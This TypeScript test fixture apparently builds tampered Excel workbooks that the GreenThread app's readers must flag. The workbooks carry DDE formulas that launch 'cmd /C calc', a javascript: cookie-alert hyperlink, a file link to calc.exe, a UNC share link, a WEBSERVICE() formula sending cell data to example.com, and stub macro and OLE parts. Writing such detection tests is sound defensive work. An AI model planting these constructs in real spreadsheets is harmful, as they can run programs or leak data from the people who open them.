// Signed GreenThread workbooks with active content added, as the officer would then open them in
// Excel: links to other files, DDE, script and file hyperlinks, macros, embedded objects. None
// changes a cell, so a reader that looks only at cells calls each one intact; every reader
// (officer import, CLI verify/import, monitoring report, workshop collect) must flag them.
import type { ForeignContent } from '../../shared/workbook';
import { enc, workbookBytes } from './workbookCases';
import { sheetPartName } from './sheetXml';
import { textPart, unzipParts, withText, zipParts, type ZipPart } from './zipBytes';

export interface ActiveCase {
  id: string;
  title: string;
  bytes: Uint8Array;
  kind: ForeignContent['kind'];
  /** The case rewrites a data cell (a formula), so the cell is also a visible change. */
  editsCell?: true;
}

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const SHEET = 'xl/worksheets/sheet1.xml';
const SHEET_RELS = 'xl/worksheets/_rels/sheet1.xml.rels';
const WB_RELS = 'xl/_rels/workbook.xml.rels';

const relsXml = (rels: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`;

/** Adds relationships to a part's .rels, creating it when the part has none. */
function withRels(parts: readonly ZipPart[], relsName: string, rels: string): ZipPart[] {
  if (!parts.some((p) => p.name === relsName))
    return [...parts, { name: relsName, data: enc(relsXml(rels)) }];
  return withText(
    parts,
    relsName,
    textPart(parts, relsName).replace('</Relationships>', `${rels}</Relationships>`),
  );
}

/** A hyperlink on the first sheet's A1 to `target`, as Excel writes one (element + relationship). */
function hyperlinked(parts: readonly ZipPart[], target: string): ZipPart[] {
  const rel = `<Relationship Id="rIdGtLink" Type="${REL}/hyperlink" Target="${target.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}" TargetMode="External"/>`;
  const sheet = textPart(parts, SHEET);
  const link = '<hyperlinks><hyperlink ref="A1" r:id="rIdGtLink"/></hyperlinks>';
  const withNs = sheet.includes('xmlns:r=')
    ? sheet
    : sheet.replace('<worksheet ', `<worksheet xmlns:r="${REL}" `);
  const placed = withNs.includes('<pageMargins')
    ? withNs.replace('<pageMargins', `${link}<pageMargins`)
    : withNs.replace('</worksheet>', `${link}</worksheet>`);
  return withRels(withText(parts, SHEET, placed), SHEET_RELS, rel);
}

/** An external-link part naming another workbook (or, with `dde`, a program to start). */
function externalLinked(parts: readonly ZipPart[], dde: boolean): ZipPart[] {
  const body = dde
    ? '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
    : '<externalBook r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames></externalBook>';
  const link = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}">${body}</externalLink>`;
  const added: ZipPart[] = [
    ...parts,
    { name: 'xl/externalLinks/externalLink1.xml', data: enc(link) },
  ];
  if (!dde)
    added.push({
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: enc(
        relsXml(
          `<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="file:///C:/Finance/other.xlsx" TargetMode="External"/>`,
        ),
      ),
    });
  return withRels(
    added,
    WB_RELS,
    `<Relationship Id="rIdGtExt" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
  );
}

const xmlText = (v: string) =>
  v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/**
 * The first figure of the Metrics sheet turned into `formula` with the same cached number, as a
 * person typing it in Excel would leave it: a reader that trusts cached values sees nothing.
 */
function formulaInDataCell(parts: readonly ZipPart[], formula: string): ZipPart[] {
  const name = sheetPartName(parts, 'Metrics');
  const xml = textPart(parts, name);
  const cell = /<c r="([A-Z]+\d+)"((?: s="\d+")?)><v>(-?[\d.]+)<\/v><\/c>/.exec(xml);
  if (!cell) throw new Error('no figure on the Metrics sheet');
  const [whole, ref, style, value] = cell as unknown as [string, string, string, string];
  const next = `<c r="${ref}"${style}><f>${xmlText(formula)}</f><v>${value}</v></c>`;
  return withText(parts, name, xml.replace(whole, next));
}

/** One row a case: the case without its bytes, and the one edit of the signed workbook it makes. */
type CaseRow = Omit<ActiveCase, 'bytes'> & { edit: (parts: readonly ZipPart[]) => ZipPart[] };
type Named = Omit<ActiveCase, 'bytes' | 'editsCell'>;

/** Hyperlinks on A1: only the target differs, and what a reader must call it. */
const HYPERLINKS: readonly (Named & { target: string })[] = [
  {
    id: 'javascript-hyperlink',
    title: 'a javascript: hyperlink',
    target: 'javascript:alert(document.cookie)',
    kind: 'script_link',
  },
  {
    id: 'file-hyperlink',
    title: 'a file: hyperlink to a program',
    target: 'file:///C:/Windows/System32/calc.exe',
    kind: 'external_link',
  },
  {
    id: 'unc-hyperlink',
    title: 'a hyperlink to a file on another computer (UNC)',
    target: '\\\\198.51.100.7\\share\\loan.xlsx',
    kind: 'external_link',
  },
  {
    id: 'https-hyperlink',
    title: 'a web hyperlink (GreenThread writes no links)',
    target: 'https://example.com/pay-here?loan=1',
    kind: 'web_link',
  },
  {
    id: 'mailto-hyperlink',
    title: 'a mail hyperlink',
    target: 'mailto:officer@example.com?subject=loan',
    kind: 'web_link',
  },
];

/** Formulas in the first data cell, its cached number kept: only the formula and kind differ. */
const FORMULAS: readonly (Named & { formula: string })[] = [
  {
    id: 'dde-formula',
    title: 'a DDE formula in a data cell that starts a program',
    formula: "cmd|' /C calc'!A0",
    kind: 'dde',
  },
  {
    id: 'dde-function',
    title: 'a DDE() formula in a data cell',
    formula: 'DDE("cmd","/C calc","A0")',
    kind: 'dde',
  },
  {
    id: 'webservice-formula',
    title: 'a WEBSERVICE() formula in a data cell',
    formula: 'WEBSERVICE("https://example.com/x?d="&A1)+0',
    kind: 'web_link',
  },
  {
    id: 'hyperlink-formula',
    title: 'a HYPERLINK() formula in a data cell',
    formula: 'HYPERLINK("https://example.com","12")',
    kind: 'web_link',
  },
];

const CASES: readonly CaseRow[] = [
  {
    id: 'external-link',
    title: 'a link to a cell of another workbook',
    edit: (p) => externalLinked(p, false),
    kind: 'external_link',
  },
  {
    id: 'dde',
    title: 'a DDE link that starts a program',
    edit: (p) => externalLinked(p, true),
    kind: 'dde',
  },
  ...HYPERLINKS.map(({ target, ...c }) => ({
    ...c,
    edit: (p: readonly ZipPart[]) => hyperlinked(p, target),
  })),
  ...FORMULAS.map(({ formula, ...c }) => ({
    ...c,
    edit: (p: readonly ZipPart[]) => formulaInDataCell(p, formula),
    editsCell: true as const,
  })),
  {
    id: 'vba',
    title: 'a VBA macro project',
    edit: (p) =>
      withRels(
        [...p, { name: 'xl/vbaProject.bin', data: enc('\u00d0\u00cf\u0011\u00e0 not really VBA') }],
        WB_RELS,
        `<Relationship Id="rIdGtVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
      ),
    kind: 'macros',
  },
  {
    id: 'ole-object',
    title: 'an embedded OLE object',
    edit: (p) =>
      withRels(
        [...p, { name: 'xl/embeddings/oleObject1.bin', data: enc('OLE') }],
        SHEET_RELS,
        `<Relationship Id="rIdGtOle" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`,
      ),
    kind: 'embedded_object',
  },
];

export async function activeWorkbooks(): Promise<ActiveCase[]> {
  const parts = unzipParts(await workbookBytes());
  return CASES.map(({ edit, ...c }) => ({ ...c, bytes: zipParts(edit(parts)) }));
}
